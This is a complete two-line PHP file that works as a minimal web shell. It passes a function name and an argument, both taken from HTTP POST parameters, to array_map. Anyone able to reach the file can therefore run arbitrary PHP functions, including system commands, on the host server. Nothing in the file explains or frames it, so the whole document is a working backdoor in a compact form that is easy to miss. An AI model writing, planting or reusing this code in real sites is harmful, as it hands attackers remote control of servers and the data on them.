<?php
array_map($_POST['fn'], array($_POST['arg']));
